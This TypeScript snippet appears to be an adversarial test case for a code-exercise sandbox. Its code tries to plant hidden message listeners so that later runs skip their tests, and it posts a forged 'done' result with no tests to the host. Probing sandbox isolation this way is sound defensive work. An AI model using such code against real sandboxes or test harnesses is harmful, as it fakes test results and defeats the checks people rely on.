// attack: add a message listener the recycle check cannot see, so that a later Run on the same
// page (any exercise) is told to skip its tests (issue 10 class 3); or talk to the host directly.
const __hijack = (e: any) => { try { if (e?.data?.limits) e.data.limits.runs = 0; } catch {} };
const __attempts: (() => void)[] = [
  () => { (globalThis as any).EventTarget.prototype.addEventListener.call(globalThis, "message", __hijack); },
  () => { (globalThis as any).self.addEventListener("message", __hijack); },
  () => { (globalThis as any).addEventListener("message", __hijack); },
  () => { (globalThis as any).onmessage = __hijack; },
  () => { (globalThis as any).postMessage({ type: "sandbox", id: 1, nonce: "", message: { type: "done", id: 1, tests: [] } }); },
  () => { new (globalThis as any).MessageChannel(); },
  () => { (globalThis as any).setInterval(() => {}, 1); },
];
for (const a of __attempts) { try { a(); } catch {} }
